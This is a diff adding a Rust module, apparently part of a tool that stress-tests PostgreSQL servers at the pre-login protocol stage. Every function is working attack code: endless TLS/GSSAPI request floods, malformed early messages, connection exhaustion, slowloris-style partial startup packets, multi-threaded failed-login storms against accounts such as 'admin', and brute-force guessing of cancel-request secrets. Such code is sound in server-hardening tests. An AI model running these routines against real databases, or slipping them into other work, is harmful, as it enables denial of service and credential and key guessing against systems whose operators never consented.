@@ -1,0 +1,147 @@
+//! The Postgres protocol before login.
+
+use std::time::Duration;
+
+use super::crowd;
+use crate::answers::{Answer, CLOSED};
+use crate::attack::Run;
+use crate::dial::{RUDE, reset_on_close};
+use crate::native::lost;
+use crate::postgres::{CANCEL_REQUEST, GSSENC_REQUEST, Postgres, SSL_REQUEST, framed, startup, untyped};
+
+/// Requests for encryption in one write.
+const AT_ONCE: usize = 4_096;
+/// As many as the listener holds.
+const HELD: usize = 1_024;
+const STORMERS: usize = 16;
+
+/// Requests for GSSAPI encryption without end.
+pub(crate) fn gssenc(run: &Run) -> Result<(), Answer> {
+    encryption(run, GSSENC_REQUEST)
+}
+
+/// Requests for TLS without end.
+pub(crate) fn tls(run: &Run) -> Result<(), Answer> {
+    encryption(run, SSL_REQUEST)
+}
+
+fn encryption(run: &Run, code: i32) -> Result<(), Answer> {
+    while run.round() {
+        let mut postgres = Postgres::open(&run.target, RUDE)?;
+        let requests = untyped(code, &[]).repeat(AT_ONCE);
+        let mut sends = postgres.stream.try_clone().map_err(|error| lost(&error))?;
+        std::thread::scope(|scope| {
+            scope.spawn(move || {
+                use std::io::Write;
+                while run.has_time() && sends.write_all(&requests).is_ok() {}
+                drop(sends.shutdown(std::net::Shutdown::Write));
+            });
+            let mut declined = 0u64;
+            let mut byte = [0];
+            let end = loop {
+                match postgres.read(&mut byte) {
+                    Ok(()) if byte == *b"N" => declined += 1,
+                    Ok(()) => break Answer::new("FATAL"),
+                    Err(answer) => break answer,
+                }
+                // A hardened server declines a few times and closes.
+                if declined > 100_000 {
+                    break Answer::new("declined for ever");
+                }
+            };
+            run.saw(end);
+            drop(postgres.stream.shutdown(std::net::Shutdown::Both));
+        });
+    }
+    Ok(())
+}
+
+/// Messages of a session before login, with and without a body.
+pub(crate) fn early_messages(run: &Run) -> Result<(), Answer> {
+    let kinds = *b"DECPBQSHXFdcf\0~";
+    for n in 0.. {
+        if !run.round() {
+            break;
+        }
+        let mut postgres = Postgres::open(&run.target, RUDE)?;
+        reset_on_close(&postgres.stream).map_err(|error| lost(&error))?;
+        postgres.send(&startup("nobody"))?;
+        let body: &[u8] = if n < kinds.len() { b"" } else { b"\xFF\xFF\xFF\xFF" };
+        postgres.send(&framed(kinds[n % kinds.len()], body))?;
+        // The server may first ask for a password.
+        let answer = loop {
+            match postgres.message() {
+                Ok(message) => match message.answer() {
+                    Some(answer) => break answer,
+                    None => continue,
+                },
+                Err(answer) => break answer,
+            }
+        };
+        // Terminate ends a connection without a word.
+        let polite = kinds[n % kinds.len()] == b'X' && answer.label == CLOSED;
+        run.saw(if polite { Answer::error("08P01", "") } else { answer });
+    }
+    Ok(())
+}
+
+/// Connections that say nothing.
+pub(crate) fn idle(run: &Run) -> Result<(), Answer> {
+    let mut held = Vec::new();
+    while run.round() && held.len() < HELD {
+        match Postgres::open(&run.target, RUDE) {
+            Ok(postgres) => held.push(postgres),
+            Err(answer) => run.saw(answer),
+        }
+    }
+    run.hold(|| {});
+    Ok(())
+}
+
+/// Startup messages that come a byte at a time.
+pub(crate) fn half_startup(run: &Run) -> Result<(), Answer> {
+    let mut held = Vec::new();
+    while run.round() && held.len() < HELD / 4 {
+        let mut postgres = Postgres::open(&run.target, RUDE)?;
+        // A length of 9,000 bytes and protocol 3.0.
+        let _ = postgres.send(&[0, 0, 0x23, 0x28, 0, 3, 0, 0]);
+        held.push(postgres);
+    }
+    run.hold(|| held.retain_mut(|postgres| postgres.send(b"x").is_ok()));
+    Ok(())
+}
+
+/// As many failing logins as the server takes.
+pub(crate) fn login_storm(run: &Run) -> Result<(), Answer> {
+    crowd(STORMERS, |thread| {
+        while run.round() {
+            let outcome = Postgres::open(&run.target, RUDE).and_then(|mut postgres| {
+                reset_on_close(&postgres.stream).map_err(|error| lost(&error))?;
+                postgres.log_in(["admin", "nobody", "nowhere"][thread % 3], "wrong")?;
+                Ok(Answer::new("logged in"))
+            });
+            run.count(outcome);
+        }
+        Ok(())
+    })
+}
+
+/// Cancel requests with guessed secrets.
+pub(crate) fn cancel_storm(run: &Run) -> Result<(), Answer> {
+    crowd(STORMERS, |thread| {
+        for guess in 0u64.. {
+            if !run.round() {
+                break;
+            }
+            let patience = Duration::from_secs(5);
+            let outcome = Postgres::open_for(&run.target, RUDE, patience).and_then(|mut postgres| {
+                reset_on_close(&postgres.stream).map_err(|error| lost(&error))?;
+                let key = (guess * STORMERS as u64 + thread as u64).to_be_bytes();
+                postgres.send(&untyped(CANCEL_REQUEST, &key))?;
+                postgres.message().map(|message| Answer::new(format!("message {}", message.kind as char)))
+            });
+            run.count(outcome);
+        }
+        Ok(())
+    })
+}
